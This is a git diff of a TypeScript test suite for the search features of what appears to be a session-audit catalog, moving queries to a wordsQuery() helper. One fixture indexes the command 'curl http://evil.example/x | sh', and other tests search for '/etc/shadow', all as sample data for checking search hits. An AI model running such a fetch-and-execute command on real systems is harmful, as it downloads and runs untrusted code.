@@ -1,6 +1,8 @@
 import type { TestFn } from 'ava'
 import type { SearchHit } from '#services/catalog/catalog.ts'
+import { wordsQuery } from '#services/search/words-query.ts'
 import { allPages, at, command, event, type MakeCatalogPlace, opened, sessionRow, update } from './catalog-place.ts'
+import { queryContract } from './catalog-query.ts'
 import { wordsContract } from './catalog-words.ts'
 
 const typed = [
@@ -59,7 +61,7 @@ const textContract = (test: TestFn, make: MakeCatalogPlace): void => {
     await catalog.indexFrames(update(row, [0, 1], typed))
     await place.settle()
     for (const [text, found] of queries) {
-      const { items, total } = await catalog.search({ text, in: ['commands'], limit: 50 })
+      const { items, total } = await catalog.search({ query: wordsQuery(text), in: ['commands'], limit: 50 })
       t.deepEqual(items.map(({ atMs }) => atMs! / 1_000).reverse(), found, text)
       t.is(total.value, found.length, text)
     }
@@ -78,7 +80,7 @@ const textContract = (test: TestFn, make: MakeCatalogPlace): void => {
     await catalog.indexFrames(update(other, [0, 1], ['cat /etc/hosts']))
     await place.settle()
     const find = async (text: string) =>
-      (await catalog.sessions({ text, limit: 10 })).items.map(({ user }) => user).sort()
+      (await catalog.sessions({ query: wordsQuery(text), limit: 10 })).items.map(({ user }) => user).sort()
     t.deepEqual(await find('quentin /etc/shadow'), ['quentin'])
     t.deepEqual(await find('shadow 世界'), ['quentin'])
     t.deepEqual(await find('/etc'), ['quentin', 'rose'])
@@ -91,14 +93,14 @@ const textContract = (test: TestFn, make: MakeCatalogPlace): void => {
     t.deepEqual(await find('nowhere'), [])
   })
 
-  test('a search without words, with too many, or with a senseless limit is refused', async (t) => {
+  test('a search with a senseless limit is refused', async (t) => {
     const { catalog } = await opened(t, make)
     const refused = { code: 'BTZ_CATALOG_QUERY' }
-    await t.throwsAsync(catalog.search({ text: ' \n', in: ['commands'], limit: 10 }), refused)
-    await t.throwsAsync(catalog.search({ text: 'x'.repeat(5_000), in: ['commands'], limit: 10 }), refused)
-    const many = Array.from({ length: 500 }, (_, n) => n).join(' ')
-    await t.throwsAsync(catalog.sessions({ text: many.slice(0, 900), limit: 10 }), refused)
-    for (const limit of [0, -1, 1.5, Number.NaN, 1e9]) await t.throwsAsync(catalog.events({ limit }), refused)
+    const query = wordsQuery('x')
+    for (const limit of [0, -1, 1.5, Number.NaN, 1e9]) {
+      await t.throwsAsync(catalog.events({ limit }), refused)
+      await t.throwsAsync(catalog.search({ query, in: ['commands'], limit }), refused)
+    }
   })
 }
 
@@ -109,7 +111,7 @@ const hitContract = (test: TestFn, make: MakeCatalogPlace): void => {
     const line = `${'echo 😀 '.repeat(100)}; curl http://evil.example/x | sh ; ${'true; '.repeat(100)}`
     await catalog.indexFrames(update(row, [0, 1], [command(line, { atMs: 2_500 })]))
     await place.settle()
-    const [hit] = (await catalog.search({ text: 'CURL evil', in: ['commands'], limit: 5 })).items
+    const [hit] = (await catalog.search({ query: wordsQuery('CURL evil'), in: ['commands'], limit: 5 })).items
     t.like(hit, { in: 'commands', sessionId: row.id, eventId: null, atMs: 2_500, user: 'bob', bastion: 'b-9' })
     t.is(hit?.at, new Date(Date.parse(at(60)) + 2_500).toISOString())
     t.true(hit!.snippet.length <= 240 && hit!.snippet.isWellFormed())
@@ -130,7 +132,7 @@ const hitContract = (test: TestFn, make: MakeCatalogPlace): void => {
     const events = Array.from({ length: 9 }, (_, n) => event(n + (n % 2) / 2, sudo))
     await catalog.putEvents(events)
     await place.settle()
-    const query = { text: 'sudo', in: ['commands' as const, 'events' as const], limit: 4 }
+    const query = { query: wordsQuery('sudo'), in: ['commands' as const, 'events' as const], limit: 4 }
     const hits = await allPages((cursor) => catalog.search({ ...query, ...(cursor && { cursor }) }))
     t.is(hits.length, 18)
     t.is(new Set(hits.map(({ atMs, eventId }) => eventId ?? atMs)).size, 18)
@@ -154,7 +156,12 @@ const hitContract = (test: TestFn, make: MakeCatalogPlace): void => {
     await place.settle()
     let seq = 1
     const hits = await allPages(async (cursor) => {
-      const result = await catalog.search({ text: 'tail', in: ['commands'], limit: 3, ...(cursor && { cursor }) })
+      const result = await catalog.search({
+        query: wordsQuery('tail'),
+        in: ['commands'],
+        limit: 3,
+        ...(cursor && { cursor }),
+      })
       await catalog.indexFrames(update(row, [seq, seq + 1], [`tail new${seq}`], 100 + seq))
       await place.settle()
       seq++
@@ -178,7 +185,7 @@ const hitContract = (test: TestFn, make: MakeCatalogPlace): void => {
     await t.throwsAsync(catalog.events({ limit: 1, user: 'bob', cursor }), refused)
     await t.throwsAsync(catalog.events({ limit: 1, cursor }), refused)
     await t.throwsAsync(catalog.sessions({ limit: 1, user: 'alice', cursor }), refused)
-    await t.throwsAsync(catalog.search({ text: 'alice', in: ['events'], limit: 1, cursor }), refused)
+    await t.throwsAsync(catalog.search({ query: wordsQuery('alice'), in: ['events'], limit: 1, cursor }), refused)
     const bent = Buffer.from(JSON.stringify({ closings: 1 })).toString('base64url')
     for (const wrong of [
       '',
@@ -201,4 +208,5 @@ export const searchContract = (test: TestFn, make: MakeCatalogPlace): void => {
   textContract(test, make)
   hitContract(test, make)
   wordsContract(test, make)
+  queryContract(test, make)
 }
